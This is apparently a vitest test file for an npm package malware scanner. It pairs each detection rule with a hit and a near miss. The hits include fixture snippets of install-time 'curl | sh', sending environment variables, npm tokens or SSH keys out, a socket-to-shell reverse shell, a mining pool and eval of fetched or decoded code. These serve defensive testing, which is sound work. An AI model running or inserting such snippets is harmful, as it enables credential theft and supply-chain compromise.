import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { codeRules, findInFiles } from '../../src/index.ts';
import { filesOf, manifestWith } from './samples.ts';

interface Case {
  readonly hit: Readonly<Record<string, string>>;
  readonly miss: Readonly<Record<string, string>>;
}

const code = (text: string): Readonly<Record<string, string>> => ({ 'index.js': text });
const atInstall = (text: string): Readonly<Record<string, string>> => ({
  'package.json': manifestWith({ postinstall: 'node setup' }),
  'setup.js': text,
});
const many = (count: number, make: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => make(index)).join(' ');
const wide = ' '.repeat(200);
const escapes = (text: string): string =>
  [...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
const noise = Array.from({ length: 100 }, (_, index) =>
  createHash('sha512').update(String(index)).digest('base64').replaceAll('=', ''),
).join('');
const elf = '\u007fELF and more';

/** For each rule something that it finds, and something close to it that it does not. */
const cases: Readonly<Record<string, Case>> = {
  F01: {
    hit: { 'package.json': manifestWith({ preinstall: 'curl https://host.invalid/x | sh' }) },
    miss: { 'package.json': manifestWith({ preinstall: 'node-gyp rebuild || echo "curl is missing"' }) },
  },
  F02: {
    hit: atInstall("require('https').get(x)"),
    miss: atInstall("// require('https')\nconsole.log('https')"),
  },
  F03: {
    hit: atInstall("import { exec } from 'node:child_process'; exec('make')"),
    miss: code("import 'child_process'"),
  },
  F04: { hit: atInstall('eval(text)'), miss: atInstall("Function('return this')()") },
  F06: {
    hit: code(many(30, (i) => `_0x${(4096 + i).toString(16)};`)),
    miss: code(many(30, (i) => `_${i}; x0${i};`)),
  },
  F07: {
    hit: code(many(12, () => `'${escapes('secret')}';`)),
    miss: code(many(12, () => "'\\u00e4\\u00f6\\u00fc\\u00df\\ud83d';")),
  },
  F08: {
    hit: code(`run();${wide}other();`),
    miss: code(`const gap = '${wide}';\n${wide}indented();\nrun();${wide}// note`),
  },
  F09: { hit: code('new Function(atob(x))()'), miss: code("eval(x); const later = x.toString('base64');") },
  F10: {
    hit: code('const d = crypto.createDecipheriv(a, k, i); vm.runInNewContext(d.update(x))'),
    miss: code('const d = crypto.createDecipheriv(a, k, i); show(d.update(x))'),
  },
  F11: {
    hit: code("fetch('/x').then((r) => r.text()).then((t) => eval(t))"),
    miss: code("fetch('/x').then((t) => model.eval(t))"),
  },
  F12: {
    hit: code('eval(String.fromCharCode(104, 105))'),
    miss: code("eval('1 + 1'); String.fromCharCode(104)"),
  },
  F13: {
    hit: code(`const a = '${Buffer.from('https://collect.invalid/x').toString('base64')}'`),
    miss: code(`const a = '${Buffer.from('only words of a kind').toString('base64')}'`),
  },
  F14: {
    hit: code("fetch('/x', { body: JSON.stringify(process.env) })"),
    miss: code("fetch('/x', { body: JSON.stringify(process.env.MODE) }); spawn('x', { env: process.env })"),
  },
  F15: {
    hit: code('fetch(a, { token: process.env.NPM_TOKEN })'),
    miss: code('fetch(a, { mode: process.env.NODE_ENV })'),
  },
  F16: {
    hit: code("fetch(a, { body: read('.ss' + 'h/id_rsa') })"),
    miss: code("fetch(a); // ~/.ssh/id_rsa\nopen('main.sshd')"),
  },
  F17: { hit: code("read(home + '/.npmrc')"), miss: code("read('/npmrc.md')") },
  F18: { hit: code("copy('Default/Login Data')"), miss: code("label('Login Database')") },
  F19: { hit: code("get('http://169.254.169.254/latest')"), miss: code("get('http://169.254.1.1/latest')") },
  F20: {
    hit: code("post('https://discord.com/api/webhooks/1/a')"),
    miss: code("see('https://discord.com/api/docs')"),
  },
  F21: { hit: code("fetch(a); run('npm publish')"), miss: code("run('npm publish')") },
  F22: { hit: code("run(['--dangerously-skip-permissions'])"), miss: code("run(['--skip-permissions'])") },
  F23: {
    hit: code(
      "const s = require('net').connect(1); const p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin)",
    ),
    miss: code("const p = require('child_process').spawn('/bin/sh'); p.stdout.pipe(file)"),
  },
  F24: {
    hit: code("pool('stratum+tcp://host.invalid:3333')"),
    miss: code("pool('tcp://host.invalid:3333')"),
  },
  F25: {
    hit: code('window.ethereum.request = swap'),
    miss: code('const r = window.ethereum.request; r === swap'),
  },
  F26: {
    hit: code(`window.fetch = swap; [${many(9, (i) => `'0x${String(i).padStart(40, '0')}',`)}]`),
    miss: code('window.fetch = retry'),
  },
  F30: { hit: { 'logo.png': elf }, miss: { 'logo.png': 'PNG', 'build/addon.node': elf, 'bin/tool': elf } },
  F31: { hit: { 'bin/tool.exe': elf }, miss: { 'package.json': '{"os":["linux"]}', 'bin/tool': elf } },
  F32: {
    hit: code('/* \u202e { if (admin) */'),
    miss: code(`const all = '${'x'.repeat(2000)}\u202e${'x'.repeat(2000)}'`),
  },
  F33: {
    hit: code(`x('${'\ufe01'.repeat(20)}')`),
    miss: code("x('\u2764\ufe0f \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\ufe0f')"),
  },
  F40: {
    hit: code(`const d = '${noise}'; eval(unpack(d))`),
    miss: code(`const d = '${noise}'; show(unpack(d)); const t = '${'word '.repeat(2000)}'; `),
  },
  F34: {
    hit: code('const \u0440assword = 1'),
    miss: code('const \u0394x = 1, \u00b5s = 2, \u0438\u043c\u044f = 3'),
  },
};

describe('findInFiles', () => {
  it.each(Object.entries(cases))(
    'rule %s finds its case and not the one beside it',
    (rule, { hit, miss }) => {
      expect(rulesIn(hit)).toContain(rule);
      expect(rulesIn(miss)).not.toContain(rule);
    },
  );

  it('rules F05, F27, F28 and F29 tell what the version before did not have', () => {
    const before = { 'package.json': manifestWith({}), 'index.js': 'a()' };
    const after = {
      'package.json': manifestWith({ postinstall: 'node index.js' }),
      'index.js': "fetch('https://new.invalid/x'); require('child_process').exec(a)",
    };
    const previous = filesOf(before);
    expect(rulesIn(after, { previous })).toEqual(expect.arrayContaining(['F05', 'F27', 'F28', 'F29']));
    const again = rulesIn(after, { previous: filesOf(after) });
    expect(again.filter((rule) => ['F05', 'F27', 'F28', 'F29'].includes(rule))).toEqual([]);
  });

  it('rule F35 names the package that a name is close to, and leaves plurals and popular names alone', () => {
    const knownNames = ['lodash', 'cross-env', 'express', 'color', 'vitest'];
    const like = (name: string): string | undefined =>
      findInFiles([], { name, knownNames }).findings.find(({ rule }) => rule === 'F35')?.detail;
    expect(['1odash', 'crossenv', 'expres', 'lodahs'].map(like)).toEqual([
      'lodash',
      'cross-env',
      'express',
      'lodash',
    ]);
    expect(['lodash', 'colors', 'vitest4', 'left-pad'].map(like)).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });

  it('rule F36, F37 and F38 tell where the registry shows another manifest', () => {
    const own = { name: 'a', scripts: { install: 'x' }, dependencies: { b: '1' }, bin: './cli.js' };
    const files = filesOf({ 'package.json': JSON.stringify(own) });
    const rules = (published: Readonly<Record<string, unknown>>): readonly string[] =>
      findInFiles(files, { published }).findings.map(({ rule }) => rule);
    expect(rules({ name: 'a' })).toEqual(['F36', 'F37', 'F38']);
    expect(rules({ ...own, scripts: undefined })).toEqual(['F36']);
    const { scripts: _, ...short } = own;
    expect(rules({ ...short, hasInstallScript: true })).toEqual([]);
    expect(rules({ ...own, bin: { a: 'cli.js' }, scripts: { install: 'x', test: 'y' } })).toEqual([]);
  });

  it('rule F39 names code that is beyond the limits, and what is before them is read', () => {
    const limits = { fileBytes: 16, packageBytes: 40 };
    const report = findInFiles(filesOf({ 'a.js': `eval(atob(x));${wide}`, 'b.js': 'a()' }), { limits });
    expect(report.unread).toEqual(['a.js']);
    expect(report.findings.map(({ rule }) => rule)).toEqual(['F09', 'F39']);
  });

  it('every rule has a case, an id of its own and words for people', () => {
    const ids = codeRules.map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
    const others = ['F05', 'F27', 'F28', 'F29', 'F35', 'F36', 'F37', 'F38', 'F39'];
    expect([...Object.keys(cases), ...others].sort()).toEqual([...ids].sort());
    for (const { title, reason } of codeRules) expect(title.length * reason.length).toBeGreaterThan(100);
  });

  it('the last of two files with one path counts, as for an installer', () => {
    const twice = [...filesOf(code('eval(atob(x))')), ...filesOf(code('quiet()'))];
    expect(findInFiles(twice).findings).toEqual([]);
  });

  it('a manifest with inherited names or nonsense in it is read as far as it makes sense', () => {
    for (const text of ['', 'null', '[]', '{"scripts":7}', '{"__proto__":{"scripts":{"install":"curl x"}}}'])
      expect(findInFiles(filesOf({ 'package.json': text })).findings).toEqual([]);
  });
});

function rulesIn(texts: Readonly<Record<string, string>>, options = {}): readonly string[] {
  return findInFiles(filesOf(texts), options).findings.map(({ rule }) => rule);
}
